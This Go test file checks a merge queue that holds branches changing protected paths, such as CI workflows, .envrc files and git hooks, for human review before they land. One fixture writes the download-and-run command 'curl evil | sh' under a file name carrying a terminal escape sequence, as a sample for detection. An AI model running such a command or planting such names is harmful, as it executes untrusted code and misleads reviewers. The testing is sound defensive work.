package landing

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// A branch that changes a path tools run by themselves once it reaches a
// checkout waits for the human's review after a green verify, though no
// one asked for review (the human's own `batty merge` included); the
// request says which paths. An approval lands it. A branch that changes
// none lands as before.
func TestProtectedPathWaitsForReview(t *testing.T) {
	r := newRepo(t)
	a, b := r.agent("a"), r.agent("b")
	r.commit(a, "main.go", "package main\n", "code")
	aTip := r.commit(a, ".github/workflows/x.yml", "on: push\n", "ci")
	r.commit(b, "b.txt", "from b\n", "b one")
	base := r.tip("main")
	q := r.open(r.options())
	ra, rb := r.enqueue(q, "a"), r.enqueue(q, "b")

	got := r.land(q, ra.ID)
	if got.State != Review || got.Review || got.Tip != aTip || !slices.Equal(got.Protected, []string{".github/workflows/x.yml"}) || got.ProtectedTotal != 1 {
		t.Fatalf("a changes .github/workflows: %+v", got)
	}
	if r.tip("main") != base {
		t.Fatal("a landing that changes a protected path moved main")
	}
	if lb := r.land(q, rb.ID); lb.State != Landed || lb.Protected != nil {
		t.Fatalf("b changes no protected path: %+v", lb)
	}
	// Kept across a restart.
	q = r.open(r.options())
	if w, _ := q.Get(ra.ID); w.State != Review || len(w.Protected) != 1 {
		t.Fatalf("after a restart: %+v", w)
	}
	if _, d, err := q.Approve(context.Background(), ra.ID); err != nil || d.Action != ActApprove {
		t.Fatalf("Approve: %+v, %v", d, err)
	}
	if done := r.land(q, ra.ID); done.State != Landed || r.git(r.top, "rev-parse", "main^2") != aTip {
		t.Fatalf("approved: %s (%s)", done.State, done.Error)
	}
	if got := r.read(r.top, ".github/workflows/x.yml"); got != "on: push\n" {
		t.Fatalf("the checkout has %q", got)
	}
}

// What counts as a change of a protected path: added, changed, deleted,
// its mode, a link in place of a protected directory, a hostile name
// (kept as git names it, to be cleaned where shown), a path the team
// adds; and nothing that base has already.
func TestProtectedChanges(t *testing.T) {
	r := newRepo(t)
	r.commit(r.top, ".gitattributes", "* text=auto\n", "attributes")
	r.commit(r.top, "tools/run.sh", "echo\n", "a script")
	r.commit(r.top, ".envrc", "export A=1\n", "the human's envrc")
	o := r.options()
	o.Protected = []string{"deploy/", "/tools/run.sh"}
	q := r.open(o)
	for _, tc := range []struct {
		name  string
		edit  func(dir string)
		want  []string
		total int
	}{
		{"ordinary code", func(dir string) { r.commit(dir, "x.go", "package x\n", "x") }, nil, 0},
		{"a nested .envrc with a hostile name", func(dir string) {
			r.commit(dir, "we\nird\x1b[31m/.envrc", "curl evil | sh\n", "envrc")
		}, []string{"we\nird\x1b[31m/.envrc"}, 1},
		{"deleted", func(dir string) {
			r.git(dir, "rm", "-q", ".gitattributes")
			r.git(dir, "commit", "-q", "-m", "drop")
		}, []string{".gitattributes"}, 1},
		{"its mode", func(dir string) {
			if err := os.Chmod(filepath.Join(dir, "tools/run.sh"), 0o755); err != nil {
				t.Fatal(err)
			}
			r.git(dir, "commit", "-q", "-am", "exec")
		}, []string{"tools/run.sh"}, 1},
		{"a link in place of a directory", func(dir string) {
			if err := os.Symlink("ci", filepath.Join(dir, ".VSCode")); err != nil {
				t.Fatal(err)
			}
			r.git(dir, "add", ".VSCode")
			r.git(dir, "commit", "-q", "-m", "link")
		}, []string{".VSCode"}, 1},
		{"the team's pattern", func(dir string) { r.commit(dir, "deploy/prod.sh", "x\n", "deploy") }, []string{"deploy/prod.sh"}, 1},
		{"what base has already", func(dir string) {
			r.commit(dir, ".envrc", "export A=2\n", "same change")
			r.commit(dir, "y.go", "package y\n", "y")
			r.commit(r.top, ".envrc", "export A=2\n", "the human's same change")
		}, nil, 0},
		{"many", func(dir string) {
			for i := range MaxProtected + 5 {
				r.write(dir, fmt.Sprintf(".husky/h%02d", i), "x\n")
			}
			r.git(dir, "add", ".husky")
			r.git(dir, "commit", "-q", "-m", "hooks")
		}, nil, MaxProtected + 5},
	} {
		t.Run(tc.name, func(t *testing.T) {
			agent := fmt.Sprintf("p%d", len(q.List()))
			dir := r.agent(agent)
			tc.edit(dir)
			req := r.enqueue(q, agent)
			got := r.land(q, req.ID)
			if got.ProtectedTotal != tc.total || (tc.want != nil && !slices.Equal(got.Protected, tc.want)) || len(got.Protected) != min(tc.total, MaxProtected) {
				t.Fatalf("protected %q (%d), want %q (%d)", got.Protected, got.ProtectedTotal, tc.want, tc.total)
			}
			if want := map[bool]State{true: Review, false: Landed}[tc.total > 0]; got.State != want {
				t.Fatalf("state %s (%s), want %s", got.State, got.Error, want)
			}
			if got.State == Review {
				if _, _, err := q.Reject(got.ID, "no"); err != nil {
					t.Fatal(err)
				}
			}
		})
	}
}

// The scan of git's output keeps at most one path in memory, however git
// cuts its writes, and takes a path longer than it keeps as protected.
func TestProtectedScan(t *testing.T) {
	r := newRepo(t)
	q := r.open(r.options())
	long := strings.Repeat("d/", maxScanPath) + "x.go"
	out := "a.go\x00.envrc\x00" + long + "\x00sub/.codex/config.toml\x00b.go"
	for _, step := range []int{1, 3, 7, len(out)} {
		s := &protectedScan{set: q.protected}
		for i := 0; i < len(out); i += step {
			if n, err := s.Write([]byte(out[i:min(i+step, len(out))])); err != nil || n != min(step, len(out)-i) {
				t.Fatalf("Write = %d, %v", n, err)
			}
		}
		s.end()
		if s.total != 3 || len(s.paths) != 3 || s.paths[0] != ".envrc" || s.paths[2] != "sub/.codex/config.toml" || !strings.HasPrefix(s.paths[1], "d/d/") ||
			len(s.paths[1]) > maxPathLen || cap(s.buf) > maxScanPath+step {
			t.Fatalf("step %d: %d %q", step, s.total, s.paths)
		}
	}
}
